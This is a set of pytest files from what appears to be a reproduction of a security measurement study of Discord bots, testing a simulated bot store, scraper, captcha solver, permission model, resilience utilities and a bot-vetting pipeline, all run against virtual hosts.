        assert json.dumps(first, sort_keys=True) == json.dumps(second, sort_keys=True)

    def test_different_seed_different_world(self):
        first = result_to_dict(_run(72), include_bots=True)
        second = result_to_dict(_run(73), include_bots=True)
        names_a = [bot["name"] for bot in first["bots"]]
        names_b = [bot["name"] for bot in second["bots"]]
        assert names_a != names_b

    def test_virtual_time_is_deterministic(self):
        assert _run(74).virtual_seconds == _run(74).virtual_seconds


class TestReportWithoutStages:
    def test_report_renders_with_everything_disabled(self):
        from repro.core.report import render_full_report

        config = PipelineConfig(
            n_bots=60,
            seed=8,
            honeypot_sample_size=5,
            run_traceability=False,
            run_code_analysis=False,
            run_honeypot=False,
            resolve_permissions=False,
        )
        result = AssessmentPipeline(config).run()
        report = render_full_report(result)
        assert "Assessment Report" in report
        assert "Table 2" not in report  # stage disabled
        assert "Honeypot campaign" not in report

    def test_summary_lines_without_stages(self):
        config = PipelineConfig(
            n_bots=60,
            seed=8,
            honeypot_sample_size=5,
            run_traceability=False,
            run_code_analysis=False,
            run_honeypot=False,
        )
        result = AssessmentPipeline(config).run()
        lines = result.summary_lines()
        assert any("Collected 60 chatbots" in line for line in lines)
        assert not any("Honeypot" in line for line in lines)
