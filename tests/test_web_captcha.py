"""Tests for captcha challenges and the 2Captcha-like solver."""

import pytest

from repro.web.captcha import (
    CaptchaService,
    CaptchaSolveError,
    InsufficientBalanceError,
    TwoCaptchaClient,
)


class TestCaptchaService:
    def test_issue_unique_ids(self, clock):
        service = CaptchaService(clock)
        ids = {service.issue().challenge_id for _ in range(50)}
        assert len(ids) == 50

    def test_verify_correct_answer(self, clock):
        service = CaptchaService(clock)
        challenge = service.issue()
        assert service.verify(challenge.challenge_id, challenge.answer)

    def test_challenges_are_single_use(self, clock):
        service = CaptchaService(clock)
        challenge = service.issue()
        assert service.verify(challenge.challenge_id, challenge.answer)
        assert not service.verify(challenge.challenge_id, challenge.answer)

    def test_wrong_answer_rejected_and_consumed(self, clock):
        service = CaptchaService(clock)
        challenge = service.issue()
        assert not service.verify(challenge.challenge_id, "999999")
        assert not service.verify(challenge.challenge_id, challenge.answer)

    def test_unknown_id_rejected(self, clock):
        assert not CaptchaService(clock).verify("nope", "1")

    def test_stats_counts(self, clock):
        service = CaptchaService(clock)
        challenge = service.issue()
        service.verify(challenge.challenge_id, challenge.answer)
        service.verify("ghost", "1")
        assert service.stats.issued == 1
        assert service.stats.verified == 1
        assert service.stats.rejected == 1

    def test_prompt_is_solvable_arithmetic(self, clock):
        service = CaptchaService(clock)
        for _ in range(20):
            challenge = service.issue()
            assert TwoCaptchaClient._read_prompt(challenge.prompt) == challenge.answer


class TestTwoCaptchaClient:
    def test_solve_charges_and_takes_time(self, clock):
        client = TwoCaptchaClient(clock, balance=1.0, price_per_solve=0.1, solve_time=5.0, accuracy=1.0)
        answer = client.solve("What is 3 + 4?")
        assert answer == "7"
        assert client.balance == pytest.approx(0.9)
        assert clock.now() == pytest.approx(5.0)
        assert client.total_spent == pytest.approx(0.1)

    def test_insufficient_balance(self, clock):
        client = TwoCaptchaClient(clock, balance=0.0)
        with pytest.raises(InsufficientBalanceError):
            client.solve("What is 1 + 1?")

    def test_failed_solve_still_charged(self, clock):
        client = TwoCaptchaClient(clock, balance=1.0, price_per_solve=0.1, accuracy=0.0)
        with pytest.raises(CaptchaSolveError):
            client.solve("What is 2 + 2?")
        assert client.balance == pytest.approx(0.9)

    def test_solve_with_retries_eventually_raises(self, clock):
        client = TwoCaptchaClient(clock, balance=10.0, accuracy=0.0)
        with pytest.raises(CaptchaSolveError):
            client.solve_with_retries("What is 2 + 2?", attempts=3)
        assert client.solves_attempted == 3

    def test_unparseable_prompt_fails(self, clock):
        client = TwoCaptchaClient(clock, accuracy=1.0)
        with pytest.raises(CaptchaSolveError):
            client.solve("select all traffic lights")

    def test_subtraction_and_multiplication(self, clock):
        client = TwoCaptchaClient(clock, accuracy=1.0)
        assert client.solve("What is 9 - 4?") == "5"
        assert client.solve("What is 6 * 3?") == "18"

    def test_history_records(self, clock):
        client = TwoCaptchaClient(clock, accuracy=1.0)
        client.solve("What is 1 + 1?")
        assert len(client.history) == 1
        assert client.history[0].succeeded
