"""Tests for the measurement scraper against the virtual sites."""

import collections

import pytest

from repro.botstore.host import StoreDefenses, build_store_host
from repro.ecosystem.generator import EcosystemConfig, InviteStatus, generate_ecosystem
from repro.scraper import GitHubScraper, PermissionStatus, TopGGScraper, WebsiteScraper, try_locators
from repro.scraper.base import ScraperConfig
from repro.sites.botwebsites import BotWebsiteBuilder
from repro.sites.discordweb import DiscordWebsite
from repro.sites.github import GitHubSite
from repro.web.browser import By, WebDriverException
from repro.web.captcha import TwoCaptchaClient


@pytest.fixture(scope="module")
def eco():
    return generate_ecosystem(EcosystemConfig(n_bots=150, seed=21, honeypot_window=30))


@pytest.fixture
def world(eco, internet, clock):
    build_store_host(eco, internet, StoreDefenses(captcha_every=100, captcha_clearance=100))
    DiscordWebsite(eco).register(internet)
    GitHubSite(eco).register(internet)
    BotWebsiteBuilder(eco).register(internet)
    solver = TwoCaptchaClient(clock, accuracy=1.0, seed=2)
    return eco, internet, solver


class TestTopGGScraper:
    def test_crawl_recovers_every_listing(self, world):
        eco, internet, solver = world
        scraper = TopGGScraper(internet, solver=solver)
        result = scraper.crawl(resolve_permissions=False)
        assert len(result.bots) == len(eco.bots)
        assert result.pages_traversed == (len(eco.bots) + 24) // 25

    def test_metadata_matches_ground_truth(self, world):
        eco, internet, solver = world
        scraper = TopGGScraper(internet, solver=solver)
        result = scraper.crawl(resolve_permissions=False)
        truth = {bot.name: bot for bot in eco.bots}
        for scraped in result.bots:
            expected = truth[scraped.name]
            assert scraped.developer_tag == expected.developer_tag
            assert scraped.guild_count == expected.guild_count
            assert scraped.votes == expected.votes
            assert set(scraped.tags) == set(expected.tags)
            assert scraped.website_url == expected.website_url
            assert scraped.github_url == expected.github_url

    def test_permission_resolution_classes(self, world):
        eco, internet, solver = world
        scraper = TopGGScraper(internet, solver=solver)
        result = scraper.crawl()
        truth = {bot.name: bot for bot in eco.bots}
        expected_status = {
            InviteStatus.VALID: PermissionStatus.VALID,
            InviteStatus.MALFORMED: PermissionStatus.INVALID_LINK,
            InviteStatus.REMOVED: PermissionStatus.REMOVED,
            InviteStatus.SLOW_REDIRECT: PermissionStatus.TIMEOUT,
        }
        for scraped in result.bots:
            assert scraped.permission_status == expected_status[truth[scraped.name].invite_status]

    def test_permissions_match_ground_truth_exactly(self, world):
        eco, internet, solver = world
        scraper = TopGGScraper(internet, solver=solver)
        result = scraper.crawl()
        truth = {bot.name: bot for bot in eco.bots}
        for scraped in result.with_valid_permissions():
            assert scraped.permissions == truth[scraped.name].permissions

    def test_captcha_wall_is_defeated(self, world):
        eco, internet, solver = world
        scraper = TopGGScraper(internet, solver=solver)
        scraper.crawl(resolve_permissions=False)
        assert scraper.stats.captchas_seen >= 1
        assert scraper.stats.captchas_solved == scraper.stats.captchas_seen
        assert solver.total_spent > 0

    def test_captcha_without_solver_raises(self, eco, internet):
        build_store_host(eco, internet, StoreDefenses(captcha_every=1))
        scraper = TopGGScraper(internet, solver=None)
        with pytest.raises(WebDriverException):
            scraper.crawl(resolve_permissions=False, max_pages=1)

    def test_max_pages_limit(self, world):
        eco, internet, solver = world
        scraper = TopGGScraper(internet, solver=solver)
        result = scraper.crawl(max_pages=2, resolve_permissions=False)
        assert result.pages_traversed == 2
        assert len(result.bots) == 50

    def test_politeness_think_time(self, world, clock):
        eco, internet, solver = world
        config = ScraperConfig(min_think_time=1.0, max_think_time=1.0)
        scraper = TopGGScraper(internet, solver=solver, config=config)
        start = clock.now()
        scraper.crawl(max_pages=1, resolve_permissions=False)
        # 26 fetches (1 list + 25 details) with >= 1s pacing each.
        assert clock.now() - start >= 26.0


class TestRateLimitRecovery:
    def test_scraper_backs_off_on_429(self, eco, internet, clock):
        build_store_host(
            eco, internet, StoreDefenses(rate_limit_requests=5, rate_limit_window=60.0, captcha_enabled=False)
        )
        solver = TwoCaptchaClient(clock, accuracy=1.0)
        config = ScraperConfig(min_think_time=0.0, max_think_time=0.0)
        scraper = TopGGScraper(internet, solver=solver, config=config)
        result = scraper.crawl(max_pages=1, resolve_permissions=False)
        assert len(result.bots) == 25  # all pages eventually fetched
        assert scraper.stats.rate_limited > 0


class TestWebsiteScraper:
    def test_policy_discovery_matches_ground_truth(self, world):
        eco, internet, solver = world
        scraper = WebsiteScraper(internet, solver=solver)
        for bot in eco.websites()[:30]:
            result = scraper.fetch_policy(bot.website_url)
            assert result.website_reachable
            assert result.policy_link_found == bot.policy.present
            expected_valid = bot.policy.present and bot.policy.link_valid
            assert result.policy_page_valid == expected_valid
            if expected_valid:
                assert result.policy_text.strip()

    def test_unreachable_website(self, world):
        eco, internet, solver = world
        scraper = WebsiteScraper(internet, solver=solver)
        result = scraper.fetch_policy("https://no-such-site.sim/")
        assert not result.website_reachable


class TestPolicyLinkCasing:
    """The paper's "varying page structures" include arbitrary anchor casing."""

    @staticmethod
    def _site(internet, anchor_text: str):
        from repro.web.http import Response
        from repro.web.server import VirtualHost

        host = VirtualHost("cased.sim")
        host.add_route(
            "/",
            lambda request: Response.html(
                f'<html><body><a href="/privacy">{anchor_text}</a></body></html>'
            ),
        )
        host.add_route(
            "/privacy",
            lambda request: Response.html(
                '<html><body><div id="policy">We collect message content.</div></body></html>'
            ),
        )
        internet.register("cased.sim", host)

    @pytest.mark.parametrize(
        "anchor_text",
        ["Privacy Policy", "Privacy policy", "PRIVACY POLICY", "privacy policy", "Privacy Notice"],
    )
    def test_policy_link_found_regardless_of_case(self, internet, clock, anchor_text):
        self._site(internet, anchor_text)
        scraper = WebsiteScraper(internet, solver=TwoCaptchaClient(clock, seed=2))
        result = scraper.fetch_policy("https://cased.sim/")
        assert result.website_reachable
        assert result.policy_link_found
        assert result.policy_page_valid
        assert "message content" in result.policy_text

    def test_unrelated_anchor_is_not_a_policy_link(self, internet, clock):
        self._site(internet, "Pricing")
        scraper = WebsiteScraper(internet, solver=TwoCaptchaClient(clock, seed=2))
        result = scraper.fetch_policy("https://cased.sim/")
        assert result.website_reachable
        assert not result.policy_link_found


class TestGitHubScraper:
    def test_valid_repo_detection(self, world):
        eco, internet, solver = world
        scraper = GitHubScraper(internet, solver=solver)
        from repro.ecosystem.repos import RepoKind, VALID_REPO_KINDS

        for bot in eco.github_linked()[:30]:
            result = scraper.fetch_repo(bot.github_url, download_files=False)
            assert result.link_valid == (bot.github.kind in VALID_REPO_KINDS)

    def test_language_and_files_roundtrip(self, world):
        eco, internet, solver = world
        scraper = GitHubScraper(internet, solver=solver)
        bot = next(b for b in eco.github_linked() if b.github.has_source_code)
        result = scraper.fetch_repo(bot.github_url)
        assert result.main_language == bot.github.language
        assert result.files == bot.github.files


class TestTryLocators:
    def test_fallback_order(self, world):
        eco, internet, solver = world
        scraper = TopGGScraper(internet, solver=solver)
        scraper.fetch(f"https://top.gg.sim/bot/{eco.bots[0].index}")
        element = try_locators(
            scraper.browser,
            [(By.ID, "missing-locator"), (By.CSS_SELECTOR, "h1.bot-title")],
        )
        assert element is not None and element.text == eco.bots[0].name

    def test_none_when_all_miss(self, world):
        eco, internet, solver = world
        scraper = TopGGScraper(internet, solver=solver)
        scraper.fetch("https://top.gg.sim/")
        assert try_locators(scraper.browser, [(By.ID, "a"), (By.ID, "b")]) is None
