"""Tests for the executable paper-vs-measured comparison."""

import pytest

from repro.analysis.paper import (
    EXACT,
    PAPER_METRICS,
    ComparisonRow,
    PaperMetric,
    compare_with_paper,
)


class TestMetricCatalogue:
    def test_keys_unique(self):
        keys = [metric.key for metric in PAPER_METRICS]
        assert len(set(keys)) == len(keys)

    def test_headline_values_verbatim(self):
        by_key = {metric.key: metric for metric in PAPER_METRICS}
        assert by_key["send_messages"].value == 59.18
        assert by_key["administrator"].value == 54.86
        assert by_key["broken_traceability"].value == 95.67
        assert by_key["js_checks"].value == 72.97
        assert by_key["py_checks"].value == 2.65
        assert by_key["honeypot_flagged"].value == 1

    def test_all_headline_metrics_exact_provenance(self):
        for metric in PAPER_METRICS:
            if metric.key in ("send_messages", "administrator", "website_link"):
                assert metric.provenance == EXACT


class TestRowLogic:
    def _metric(self, **kwargs):
        defaults = dict(
            key="x", description="x", value=50.0, unit="%", provenance=EXACT, tolerance=2.0
        )
        defaults.update(kwargs)
        return PaperMetric(**defaults)

    def test_within_tolerance(self):
        row = ComparisonRow(metric=self._metric(), measured=51.0)
        assert row.within_tolerance and row.deviation == pytest.approx(1.0)

    def test_outside_tolerance(self):
        row = ComparisonRow(metric=self._metric(), measured=55.0)
        assert not row.within_tolerance

    def test_scale_factor_widens(self):
        row = ComparisonRow(metric=self._metric(), measured=55.0, scale_factor=3.0)
        assert row.within_tolerance  # 5.0 <= 2.0 * 3

    def test_le_comparison(self):
        metric = self._metric(value=12, unit="count", tolerance=0.0, comparison="le")
        assert ComparisonRow(metric=metric, measured=7).within_tolerance
        assert not ComparisonRow(metric=metric, measured=13).within_tolerance

    def test_zero_tolerance_exact(self):
        metric = self._metric(value=0, unit="count", tolerance=0.0)
        assert ComparisonRow(metric=metric, measured=0).within_tolerance
        assert not ComparisonRow(metric=metric, measured=1).within_tolerance


class TestEndToEndComparison:
    def test_shared_run_matches_paper(self, pipeline_result):
        report = compare_with_paper(pipeline_result)
        assert len(report.rows) == len(PAPER_METRICS)
        failures = report.failures()
        assert report.all_within_tolerance, [
            (row.metric.key, row.metric.value, row.measured) for row in failures
        ]

    def test_render_mentions_every_metric(self, pipeline_result):
        report = compare_with_paper(pipeline_result)
        text = report.render()
        assert "Paper vs. measured" in text
        assert "SEND_MESSAGES request rate" in text
        assert "bots caught by the honeypot" in text

    def test_partial_result_compares_partially(self):
        from repro.core.config import PipelineConfig
        from repro.core.pipeline import AssessmentPipeline

        config = PipelineConfig(
            n_bots=80, seed=5, honeypot_sample_size=5,
            run_traceability=False, run_code_analysis=False, run_honeypot=False,
        )
        report = compare_with_paper(AssessmentPipeline(config).run())
        keys = {row.metric.key for row in report.rows}
        assert "send_messages" in keys
        assert "broken_traceability" not in keys
        assert "honeypot_flagged" not in keys
