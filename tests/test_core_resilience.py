"""Unit tests for circuit breakers, retry policy/budget, and the fault ledger."""

import pytest

from repro.core.resilience import (
    CircuitBreaker,
    CircuitBreakerRegistry,
    CircuitOpenError,
    CircuitState,
    FaultLedger,
    FaultRecord,
    RetryBudget,
    RetryPolicy,
    root_error_class,
)
from repro.web.network import ConnectionFailedError, VirtualClock


# -- circuit breaker --------------------------------------------------------


def test_breaker_trips_after_threshold():
    clock = VirtualClock()
    breaker = CircuitBreaker(clock, failure_threshold=3, recovery_time=100.0)
    for _ in range(2):
        breaker.record_failure()
    assert breaker.state is CircuitState.CLOSED
    breaker.record_failure()
    assert breaker.state is CircuitState.OPEN
    with pytest.raises(CircuitOpenError):
        breaker.check("dead.sim")


def test_breaker_success_resets_consecutive_count():
    clock = VirtualClock()
    breaker = CircuitBreaker(clock, failure_threshold=3)
    breaker.record_failure()
    breaker.record_failure()
    breaker.record_success()
    breaker.record_failure()
    breaker.record_failure()
    assert breaker.state is CircuitState.CLOSED


def test_breaker_half_open_probe_closes_circuit():
    clock = VirtualClock()
    breaker = CircuitBreaker(clock, failure_threshold=1, recovery_time=60.0, half_open_successes=2)
    breaker.record_failure()
    assert breaker.state is CircuitState.OPEN
    clock.advance(61.0)
    breaker.check("host")  # transitions to HALF_OPEN
    assert breaker.state is CircuitState.HALF_OPEN
    breaker.record_success()
    assert breaker.state is CircuitState.HALF_OPEN
    breaker.record_success()
    assert breaker.state is CircuitState.CLOSED


def test_breaker_half_open_failure_reopens():
    clock = VirtualClock()
    breaker = CircuitBreaker(clock, failure_threshold=1, recovery_time=60.0)
    breaker.record_failure()
    clock.advance(61.0)
    breaker.check("host")
    breaker.record_failure()
    assert breaker.state is CircuitState.OPEN
    assert breaker.times_opened == 2
    with pytest.raises(CircuitOpenError):
        breaker.check("host")


def test_breaker_open_error_carries_retry_time():
    clock = VirtualClock(start=10.0)
    breaker = CircuitBreaker(clock, failure_threshold=1, recovery_time=50.0)
    breaker.record_failure()
    with pytest.raises(CircuitOpenError) as excinfo:
        breaker.check("dead.sim")
    assert excinfo.value.host == "dead.sim"
    assert excinfo.value.retry_at == pytest.approx(60.0)


def test_registry_is_per_host_and_counts_short_circuits():
    clock = VirtualClock()
    registry = CircuitBreakerRegistry(clock, failure_threshold=1)
    registry.record_failure("a.sim")
    registry.check("b.sim")  # independent host unaffected
    with pytest.raises(CircuitOpenError):
        registry.check("A.SIM")  # case-insensitive host keys
    assert registry.open_hosts() == ["a.sim"]
    assert registry.short_circuits == 1


# -- retry policy / budget --------------------------------------------------


def test_retry_policy_exponential_schedule():
    policy = RetryPolicy(max_attempts=4, base_delay=1.0, multiplier=2.0, max_delay=5.0)
    assert policy.delay(0) == 1.0
    assert policy.delay(1) == 2.0
    assert policy.delay(2) == 4.0
    assert policy.delay(3) == 5.0  # capped
    assert policy.should_retry(3)
    assert not policy.should_retry(4)


def test_retry_policy_jitter_is_bounded_and_seeded():
    import random

    policy = RetryPolicy(base_delay=2.0, jitter=0.5)
    delays = [policy.delay(0, random.Random(5)) for _ in range(3)]
    assert delays[0] == delays[1] == delays[2]  # same seed, same draw
    assert 1.0 <= delays[0] <= 3.0


def test_retry_budget_denies_when_spent():
    budget = RetryBudget(2)
    assert budget.spend() and budget.spend()
    assert not budget.spend()
    assert budget.exhausted
    assert budget.denied == 1
    assert budget.remaining == 0


# -- fault ledger -----------------------------------------------------------


def test_ledger_records_and_aggregates():
    ledger = FaultLedger()
    ledger.record("crawl", "top.gg.sim", ConnectionFailedError("top.gg.sim"), 12.5, bots_skipped=1)
    ledger.record("crawl", "top.gg.sim", "MalformedPage", 14.0, bots_skipped=1)
    ledger.record("code", "github.sim", ConnectionFailedError("github.sim"), 99.0)
    assert len(ledger) == 3
    assert ledger.count("crawl") == 2
    assert ledger.bots_skipped("crawl") == 2
    assert ledger.total_bots_skipped == 2
    assert ledger.by_stage() == {"crawl": 2, "code": 1}
    assert ledger.by_error_class() == {"ConnectionFailedError": 2, "MalformedPage": 1}
    assert "2 bots skipped" in ledger.summary_line()


def test_ledger_uses_root_cause_class():
    try:
        try:
            raise ConnectionFailedError("x.sim")
        except ConnectionFailedError as inner:
            raise RuntimeError("wrapped") from inner
    except RuntimeError as outer:
        assert root_error_class(outer) == "ConnectionFailedError"
        ledger = FaultLedger()
        ledger.record("s", "x.sim", outer, 0.0)
        assert ledger.records[0].error_class == "ConnectionFailedError"


def test_ledger_json_round_trip_is_canonical():
    ledger = FaultLedger()
    ledger.record("crawl", "h.sim", "OutageError", 1.23456789, bots_skipped=3, detail="d")
    payload = ledger.to_json()
    restored = FaultLedger.from_dict(__import__("json").loads(payload))
    assert restored.to_json() == payload
    assert restored.records[0] == FaultRecord(
        stage="crawl", host="h.sim", error_class="OutageError", virtual_time=1.234568, bots_skipped=3, detail="d"
    )
