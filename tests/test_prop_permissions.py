"""Property-based tests for the permission algebra (hypothesis)."""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.discordsim.permissions import (
    ALL_PERMISSIONS_VALUE,
    Permission,
    PermissionOverwrite,
    Permissions,
    compute_base_permissions,
    compute_channel_permissions,
)

permission_values = st.integers(min_value=0, max_value=ALL_PERMISSIONS_VALUE)
permission_sets = st.builds(Permissions, permission_values)
flags = st.sampled_from(list(Permission))


class TestAlgebraLaws:
    @given(permission_sets, permission_sets)
    def test_union_commutative(self, a, b):
        assert (a | b) == (b | a)

    @given(permission_sets, permission_sets, permission_sets)
    def test_union_associative(self, a, b, c):
        assert ((a | b) | c) == (a | (b | c))

    @given(permission_sets)
    def test_union_idempotent(self, a):
        assert (a | a) == a

    @given(permission_sets, permission_sets)
    def test_intersection_subset_of_both(self, a, b):
        both = a & b
        assert both.is_subset(a) and both.is_subset(b)

    @given(permission_sets, permission_sets)
    def test_difference_disjoint_from_subtrahend(self, a, b):
        assert ((a - b) & b) == Permissions.none()

    @given(permission_sets, permission_sets)
    def test_difference_union_restores_superset(self, a, b):
        assert ((a - b) | (a & b)) == a

    @given(permission_sets)
    def test_subset_reflexive(self, a):
        assert a.is_subset(a)

    @given(permission_sets, permission_sets, permission_sets)
    def test_subset_transitive(self, a, b, c):
        if a.is_subset(b) and b.is_subset(c):
            assert a.is_subset(c)

    @given(permission_sets)
    def test_none_is_bottom_all_is_top(self, a):
        assert Permissions.none().is_subset(a)
        assert a.is_subset(Permissions.all())


class TestFlagsRoundtrip:
    @given(permission_sets)
    def test_flags_reconstruct_value(self, a):
        assert Permissions.of(*a.flags()) == a

    @given(permission_sets)
    def test_display_names_roundtrip(self, a):
        assert Permissions.from_names(a.display_names()) == a

    @given(permission_sets, flags)
    def test_has_exactly_matches_bit(self, a, flag):
        assert a.has_exactly(flag) == bool(a.value & flag.value)

    @given(permission_sets, flags)
    def test_admin_implies_has(self, a, flag):
        if a.is_administrator:
            assert a.has(flag)

    @given(permission_sets)
    def test_len_equals_popcount(self, a):
        assert len(a) == bin(a.value).count("1")


class TestOverwriteProperties:
    @given(permission_sets, permission_sets, permission_sets)
    def test_overwrite_allow_wins_over_deny(self, base, deny, allow):
        overwrite = PermissionOverwrite(target_id=1, allow=allow, deny=deny)
        result = overwrite.apply(base)
        assert allow.is_subset(result)

    @given(permission_sets, permission_sets)
    def test_pure_deny_removes(self, base, deny):
        overwrite = PermissionOverwrite(target_id=1, deny=deny)
        assert (overwrite.apply(base) & deny) == Permissions.none()

    @given(st.lists(permission_sets, max_size=5))
    def test_base_is_union_of_roles(self, roles):
        base = compute_base_permissions(roles)
        for role in roles:
            if not base.is_administrator:
                assert role.is_subset(base)

    @given(permission_sets, permission_sets, permission_sets)
    @settings(max_examples=60)
    def test_admin_base_ignores_overwrites(self, deny_a, deny_b, allow):
        everyone = PermissionOverwrite(target_id=1, deny=deny_a)
        member = PermissionOverwrite(target_id=2, deny=deny_b, allow=allow)
        result = compute_channel_permissions(Permissions.administrator(), everyone, [], member)
        assert result == Permissions.all()

    @given(permission_sets)
    def test_no_overwrites_is_identity(self, base):
        if not base.is_administrator:
            assert compute_channel_permissions(base, None, [], None) == base
