"""Tests for the vetting pipeline (the paper's proposed mitigation)."""

import dataclasses

import pytest

from repro.core.vetting import (
    VettingPipeline,
    VettingPolicy,
    ground_truth_evasions,
)
from repro.discordsim import behaviors
from repro.discordsim.permissions import Permission, Permissions
from repro.ecosystem.generator import EcosystemConfig, InviteStatus, generate_ecosystem
from repro.ecosystem.policies import PolicySpec


@pytest.fixture(scope="module")
def ecosystem():
    return generate_ecosystem(EcosystemConfig(n_bots=400, seed=88, honeypot_window=40))


def _clean_bot(ecosystem):
    """A bot that should pass every static gate."""
    bot = next(
        b
        for b in ecosystem.bots
        if b.invite_status is InviteStatus.VALID and b.behavior == behaviors.BENIGN
    )
    clone = dataclasses.replace(bot)
    clone.permissions = Permissions.of(Permission.SEND_MESSAGES, Permission.EMBED_LINKS)
    clone.policy = PolicySpec(present=True, categories=frozenset({"collect", "use"}), link_valid=True)
    clone.github = None
    return clone


class TestStaticGates:
    def setup_method(self):
        self.pipeline = VettingPipeline(VettingPolicy(run_dynamic_review=False))

    def test_clean_bot_approved(self, ecosystem):
        verdict = self.pipeline.review(_clean_bot(ecosystem))
        assert verdict.approved, verdict.reasons

    def test_broken_invite_rejected(self, ecosystem):
        broken = next(b for b in ecosystem.bots if not b.has_valid_permissions)
        verdict = self.pipeline.review(broken)
        assert not verdict.approved
        assert any("broken submission" in reason for reason in verdict.reasons)

    def test_redundant_admin_rejected(self, ecosystem):
        bot = _clean_bot(ecosystem)
        bot.permissions = Permissions.of(Permission.ADMINISTRATOR, Permission.SEND_MESSAGES)
        verdict = self.pipeline.review(bot)
        assert not verdict.approved
        assert any("administrator" in reason for reason in verdict.reasons)

    def test_over_privilege_rejected(self, ecosystem):
        bot = _clean_bot(ecosystem)
        bot.tags = ["music"]
        bot.permissions = Permissions.of(
            Permission.CONNECT, Permission.SPEAK, Permission.BAN_MEMBERS, Permission.MANAGE_GUILD
        )
        verdict = self.pipeline.review(bot)
        assert not verdict.approved
        assert any("over-privileged" in reason for reason in verdict.reasons)

    def test_data_permissions_without_policy_rejected(self, ecosystem):
        bot = _clean_bot(ecosystem)
        bot.permissions = Permissions.of(Permission.VIEW_CHANNEL, Permission.READ_MESSAGE_HISTORY)
        bot.policy = PolicySpec(present=False)
        verdict = self.pipeline.review(bot)
        assert not verdict.approved
        assert any("undisclosed data access" in reason for reason in verdict.reasons)

    def test_unchecked_moderation_code_rejected(self, ecosystem):
        import random

        from repro.ecosystem.repos import RepoKind, generate_repo

        bot = _clean_bot(ecosystem)
        bot.tags = ["moderation"]
        bot.permissions = Permissions.of(Permission.KICK_MEMBERS, Permission.SEND_MESSAGES)
        bot.github = generate_repo(RepoKind.VALID_CODE, "dev", bot.name, "Python", False, random.Random(1))
        verdict = self.pipeline.review(bot)
        assert not verdict.approved
        assert any("re-delegation risk" in reason for reason in verdict.reasons)

    def test_checked_moderation_code_passes(self, ecosystem):
        import random

        from repro.ecosystem.repos import RepoKind, generate_repo

        bot = _clean_bot(ecosystem)
        bot.tags = ["moderation"]
        bot.permissions = Permissions.of(Permission.KICK_MEMBERS, Permission.SEND_MESSAGES)
        bot.github = generate_repo(RepoKind.VALID_CODE, "dev", bot.name, "Python", True, random.Random(1))
        verdict = self.pipeline.review(bot)
        assert verdict.approved, verdict.reasons


class TestDynamicGate:
    def _submission(self, ecosystem, behavior):
        bot = _clean_bot(ecosystem)
        bot.behavior = behavior
        bot.permissions = Permissions.of(
            Permission.SEND_MESSAGES,
            Permission.VIEW_CHANNEL,
            Permission.READ_MESSAGE_HISTORY,
        )
        return bot

    def test_nosy_operator_caught_in_sandbox(self, ecosystem):
        pipeline = VettingPipeline(seed=3)
        verdict = pipeline.review(self._submission(ecosystem, behaviors.NOSY_OPERATOR))
        assert not verdict.approved
        assert any("dynamic review" in reason for reason in verdict.reasons)

    def test_benign_bot_passes_sandbox(self, ecosystem):
        pipeline = VettingPipeline(seed=3)
        verdict = pipeline.review(self._submission(ecosystem, behaviors.BENIGN))
        assert verdict.approved, verdict.reasons

    def test_sleeper_evades_one_day_review(self, ecosystem):
        """The limitation that makes vetting need to be *continuous*."""
        pipeline = VettingPipeline(seed=3)
        bot = self._submission(ecosystem, behaviors.SLEEPER)
        verdict = pipeline.review(bot)
        assert verdict.approved  # dormant throughout the review window
        report = pipeline.vet_population([bot])
        assert ground_truth_evasions(report, [bot]) == [bot.name]

    def test_sleeper_caught_by_extended_review(self, ecosystem):
        policy = VettingPolicy(dynamic_observation=14 * 86_400.0)
        pipeline = VettingPipeline(policy, seed=3)
        verdict = pipeline.review(self._submission(ecosystem, behaviors.SLEEPER))
        assert not verdict.approved


class TestPopulationVetting:
    def test_report_aggregates(self, ecosystem):
        pipeline = VettingPipeline(VettingPolicy(run_dynamic_review=False))
        sample = ecosystem.bots[:80]
        report = pipeline.vet_population(sample)
        assert len(report.verdicts) == 80
        assert report.rejected  # the admin-heavy population fails review
        reasons = report.rejection_reasons()
        assert "permission misuse" in reasons or "over-privileged" in reasons

    def test_most_of_the_wild_population_would_fail(self, ecosystem):
        """55% admin + 95.67% no policy: today's ecosystem flunks vetting."""
        pipeline = VettingPipeline(VettingPolicy(run_dynamic_review=False))
        active = [bot for bot in ecosystem.bots if bot.has_valid_permissions][:150]
        report = pipeline.vet_population(active)
        assert len(report.rejected) / len(report.verdicts) > 0.7
