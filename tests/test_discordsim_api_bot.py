"""Tests for the bot API client and the bot runtime (incl. re-delegation)."""

import random

import pytest

from repro.discordsim.api import ApiError, BotApiClient
from repro.discordsim.behaviors import (
    BENIGN,
    EXFILTRATOR,
    LINK_PREVIEW,
    MODERATION_CHECKED,
    MODERATION_UNCHECKED,
    NOSY_OPERATOR,
    OperatorProfile,
    build_runtime,
    operator_inspection,
)
from repro.discordsim.bot import BotRuntime, requires_user_permissions
from repro.discordsim.guild import PermissionDenied
from repro.discordsim.models import Attachment
from repro.discordsim.oauth import build_invite_url
from repro.discordsim.permissions import Permission, Permissions
from repro.web.captcha import TwoCaptchaClient
from repro.web.http import Response
from repro.web.server import VirtualHost


def install_bot(platform, clock, guild, owner, name="Bot", permissions=None, client_id=None):
    """Install a bot through the real OAuth flow and return its application."""
    developer = platform.create_user(f"dev-{name}", phone_verified=True)
    application = platform.register_application(developer, name, client_id=client_id)
    url = build_invite_url(application.client_id, permissions or Permissions.of(Permission.ADMINISTRATOR))
    screen = platform.begin_install(owner.user_id, url, guild.guild_id)
    answer = TwoCaptchaClient(clock, accuracy=1.0, seed=1).solve(screen.captcha_prompt)
    platform.complete_install(owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, answer)
    return application


@pytest.fixture
def world(platform, clock):
    owner = platform.create_user("owner", phone_verified=True)
    guild = platform.create_guild(owner, "W")
    return platform, clock, owner, guild


class TestBotApi:
    def test_send_and_read(self, world):
        platform, clock, owner, guild = world
        application = install_bot(platform, clock, guild, owner)
        api = BotApiClient(platform, application.bot_user.user_id)
        channel = guild.text_channels()[0]
        api.send_message(guild.guild_id, channel.channel_id, "hello")
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "hi back")
        history = api.read_history(guild.guild_id, channel.channel_id)
        assert [message.content for message in history] == ["hi back", "hello"]

    def test_read_requires_history_permission(self, world):
        platform, clock, owner, guild = world
        application = install_bot(
            platform, clock, guild, owner, permissions=Permissions.of(Permission.SEND_MESSAGES)
        )
        api = BotApiClient(platform, application.bot_user.user_id)
        channel = guild.text_channels()[0]
        # Bot role grants SEND only, but @everyone baseline includes history;
        # deny it for the bot explicitly to prove the check.
